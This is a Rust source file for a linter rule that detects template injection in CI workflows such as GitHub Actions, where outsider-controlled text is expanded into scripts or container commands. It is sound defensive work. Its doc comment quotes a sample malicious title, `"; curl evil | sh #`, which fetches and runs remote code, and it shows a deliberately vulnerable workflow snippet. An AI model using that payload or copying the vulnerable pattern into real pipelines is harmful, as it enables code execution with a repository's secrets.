use lockgate_evidence::{Finding, Span, rule};
use lockgate_pipelines::expression::{ContextPath, Expr, Template};
use lockgate_pipelines::model::{Body, Kind, Platform, Run, Runtime, Step, Target, Uses};
use lockgate_pipelines::yaml::Text;

use crate::context::Context;
use crate::data::code_inputs::{self, Language};
use crate::edits::rewrite::{self, Rewritten};
use crate::facts::spots::listed;
use crate::flow::{Flow, Reach, Taint};
use crate::tree::Place;

rule! {
    /// # What it finds
    ///
    /// An expression `${{ … }}` that puts text an outsider chooses into a script, into an input that an action runs as code, or
    /// into the shell, the image, the options or the command that something is run with. The value is followed back through `env`, inputs, matrices, outputs of steps and jobs, `GITHUB_ENV` and
    /// `GITHUB_OUTPUT`, composite actions and called workflows of the same repository; the finding shows each place it
    /// passed. What people with rights of their own fill in is told once for each script. Values that can only be a number, a
    /// commit id, a flag or a fixed word are left out, and so are expressions of which only a comparison's result is used, and
    /// JSON that stands as a literal in JavaScript.
    ///
    /// # Why it matters
    ///
    /// The platform expands expressions before the shell reads the script, so a title such as `"; curl evil | sh #` becomes a
    /// command. That is how outsiders ran code with the repository's secrets in the pipelines of `ultralytics` (December
    /// 2024, a branch name) and `nx` (August 2025, the title of a pull request). The severity says what an outsider can do:
    ///
    /// - critical: he starts the run, and it has secrets or a token that can write;
    /// - high: it has neither, but shares caches with the default branch; somebody must first set a label; or it is an
    ///   action or called workflow whose callers are not known;
    /// - medium: somebody must first merge, approve or ask for the run; the text comes from commits that were accepted; or
    ///   only runs of his own pull request are affected, which have no secrets;
    /// - low: a condition lets only members or branches of the same repository through, or the value comes from someone
    ///   with rights of his own, or no event that starts an action brings one; info: it is the output
    ///   of an action whose inside cannot be seen.
    ///
    /// Triggers, conditions and rights are those of the workflows in the tree that lead there. The confidence falls where
    /// the path crosses something outside of it.
    ///
    /// # Bad
    ///
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "Thanks for ${{ github.event.issue.title }}"
    /// ```
    ///
    /// # Good
    ///
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - env:
    ///           ISSUE_TITLE: ${{ github.event.issue.title }}
    ///         run: echo "Thanks for ${ISSUE_TITLE}"
    /// ```
    ///
    /// # How to fix
    ///
    /// Give the value to the step in `env` and use the variable, quoted. `lockgate fix` does that where it can see how the
    /// value is quoted.
    ///
    /// # References
    ///
    /// - Script injections, GitHub Docs
    /// - Keeping your GitHub Actions and workflows secure: Untrusted input, GitHub Security Lab
    /// - CWE-94
    Workload "workload/template-injection": "text chosen by an outsider is expanded into a script", Critical, High, fixable
}

pub(super) fn check(cx: &Context<'_>, out: &mut Vec<Finding>) {
    for (place, _, step) in cx.steps() {
        match &step.body {
            Body::Run(run) => {
                script(cx, place, run, out);
                if let Some(shell) = &run.shell {
                    chosen(cx, place, shell, "the command line of the shell", out);
                }
            }
            Body::Uses(uses) => inputs(cx, place, uses, out),
            Body::Nothing => {}
        }
    }
    for place in cx.jobs() {
        for container in place.job.containers() {
            if let Some(image) = &container.image {
                chosen(cx, place, image, "the name of the image that is run", out);
            }
            if let Some(options) = &container.options {
                chosen(cx, place, options, "the options of the container", out);
            }
        }
    }
    docker_action(cx, out);
}

/// A container action of the tree that hands its arguments to a shell.
fn docker_action(cx: &Context<'_>, out: &mut Vec<Finding>) {
    let Some(pipeline) = cx.pipeline() else {
        return;
    };
    let Kind::Action(Runtime::Docker { args, .. }) = &pipeline.kind else {
        return;
    };
    // It has no job of its own and runs in that of whoever uses it.
    let Some((user, _)) = cx.tree.users(pipeline).into_iter().next() else {
        return;
    };
    let place = Place {
        pipeline,
        job: user.job,
        step: None,
    };
    if args.iter().any(|arg| arg.value() == "-c") {
        for arg in args {
            chosen(cx, place, arg, "the script of the container", out);
        }
    }
}

/// What only an outsider must not choose; others choose such texts with good reason.
fn chosen(cx: &Context<'_>, place: Place<'_>, text: &Text, into: &str, out: &mut Vec<Finding>) {
    if !text.is_templated() {
        return;
    }
    let mut tainted = tainted(cx, place, text);
    tainted.retain(|(_, taint)| taint.is_attacker());
    let fix = None;
    report(cx, place, &Sink { text, into, fix }, tainted, out);
}

fn script(cx: &Context<'_>, place: Place<'_>, run: &Run, out: &mut Vec<Finding>) {
    if run.without_shell {
        return;
    }
    let tainted = tainted(cx, place, &run.script);
    if tainted.is_empty() {
        return;
    }
    let templates: Vec<_> = tainted.iter().map(|(template, _)| *template).collect();
    let of_github = place.pipeline.platform == Platform::GitHub;
    let fix = of_github
        .then(|| rewrite::script(place, run, &templates))
        .flatten();
    report(
        cx,
        place,
        &Sink {
            text: &run.script,
            into: "the script",
            fix,
        },
        tainted,
        out,
    );
}

fn inputs(cx: &Context<'_>, place: Place<'_>, uses: &Uses, out: &mut Vec<Finding>) {
    let of_github = place.pipeline.platform == Platform::GitHub;
    if let Target::Docker(_) = &uses.target
        && of_github
    {
        for input in ["args", "entrypoint"] {
            if let Some(binding) = uses.with.get(input) {
                chosen(
                    cx,
                    place,
                    &binding.value,
                    "the command of the container",
                    out,
                );
            }
        }
    }
    let action = match &uses.target {
        // A plugin of Drone or Woodpecker is an image.
        Target::Docker(image) if !of_github => image.name.clone(),
        target => match target.action() {
            Some(action) => action,
            None => return,
        },
    };
    for binding in &uses.with.bindings {
        if !binding.value.is_templated() {
            continue;
        }
        let Some(language) = code_inputs::language(&action, binding.key.value()) else {
            continue;
        };
        let mut tainted = tainted(cx, place, &binding.value);
        tainted.retain(|(template, _)| {
            language != Language::JavaScript || !is_literal(place, &binding.value, template)
        });
        let templates: Vec<_> = tainted.iter().map(|(template, _)| *template).collect();
        let fix = of_github
            .then(|| rewrite::input(place, uses, &binding.value, language, &templates))
            .flatten();
        let into = format!("the input `{}` that `{action}` runs as code", binding.key);
        report(
            cx,
            place,
            &Sink {
                text: &binding.value,
                into: &into,
                fix,
            },
            tainted,
            out,
        );
    }
}

/// A text that is run.
struct Sink<'a> {
    text: &'a Text,
    /// The same in words.
    into: &'a str,
    fix: Rewritten,
}

/// What people with rights of their own fill in is told once for each text, what outsiders do at each place.
fn report(
    cx: &Context<'_>,
    place: Place<'_>,
    sink: &Sink<'_>,
    tainted: Vec<(&Template, Taint)>,
    out: &mut Vec<Finding>,
) {
    let mut groups: Vec<Group> = Vec::new();
    for (template, taint) in tainted {
        let reach = Reach::of(cx.tree, place, &taint);
        let span = sink.text.locate(template.span);
        let fix = sink
            .fix
            .as_ref()
            .filter(|(_, done)| done.contains(&template.span));
        let fix = fix.map(|(fix, _)| fix.clone());
        let words = reach.words();
        let same = |group: &&mut Group| {
            group.words == words && group.finding.fix.is_some() == fix.is_some()
        };
        if let Some(group) = groups
            .iter_mut()
            .find(same)
            .filter(|_| !taint.is_attacker() || reach.is_forged())
        {
            group.also.push(span);
            if !group.origins.contains(&taint.origin) {
                group.origins.push(taint.origin);
            }
        } else {
            let mut finding = reach.explain(&taint, cx.finding(&RULE, span, ""));
            if place.pipeline.platform == Platform::GitLab {
                finding = finding.help(
                    "give the value a name under `variables:` and use that variable, quoted; or put it through `posix_escape`",
                );
            }
            finding.fix = fix;
            groups.push(Group {
                words,
                finding,
                origins: vec![taint.origin],
                also: Vec::new(),
            });
        }
    }
    out.extend(groups.into_iter().map(|group| group.told(cx, sink.into)));
}

/// One finding and the values it speaks of.
struct Group {
    words: String,
    finding: Finding,
    origins: Vec<String>,
    also: Vec<Span>,
}

impl Group {
    fn told(self, cx: &Context<'_>, into: &str) -> Finding {
        let names: Vec<&str> = self.origins.iter().map(String::as_str).collect();
        let are = if names.len() == 1 { "is" } else { "are" };
        let mut finding = self.finding;
        finding.message = format!(
            "{} {are} expanded into {into}: {}",
            listed(&names),
            self.words
        );
        let also = self.also.into_iter();
        also.fold(finding, |finding, span| {
            finding.related(cx.file.source(), span, "here as well")
        })
    }
}

/// True where JSON stands as a literal of JavaScript, outside of quotes: it cannot be anything but data.
fn is_literal(place: Place<'_>, text: &Text, template: &Template) -> bool {
    let Ok(expr) = &template.expression else {
        return false;
    };
    let before = &text.value()[..template.span.start];
    let line = before.rsplit('\n').next().unwrap_or_default();
    let open = |text: &str, quote: char| text.matches(quote).count() % 2 == 1;
    let quoted = open(line, '"') || open(line, '\'') || open(before, '`');
    !quoted && is_json(place, expr)
}

/// `toJSON(…)`, or the lists of files of `dorny/paths-filter` where they are asked for as JSON.
fn is_json(place: Place<'_>, expr: &Expr) -> bool {
    if expr
        .ungrouped()
        .call()
        .is_some_and(|(name, _)| name == "tojson")
    {
        return true;
    }
    let path = expr.ungrouped().path();
    let Some([root, id, _, _]) = path.as_ref().map(ContextPath::segments) else {
        return false;
    };
    let mut steps = place.job.steps.iter();
    let step = steps.find(|step| {
        step.id
            .as_ref()
            .is_some_and(|own| own.value().eq_ignore_ascii_case(id))
    });
    root == "steps"
        && step.and_then(Step::uses).is_some_and(|uses| {
            uses.is("dorny/paths-filter") && uses.input("list-files") == Some("json")
        })
}

fn tainted<'t>(cx: &Context<'_>, place: Place<'_>, text: &'t Text) -> Vec<(&'t Template, Taint)> {
    let flow = Flow::new(cx.tree);
    let templates = text.templates().iter();
    templates
        .filter_map(|template| {
            Some((
                template,
                flow.expression(place, template.expression.as_ref().ok()?)?,
            ))
        })
        .collect()
}
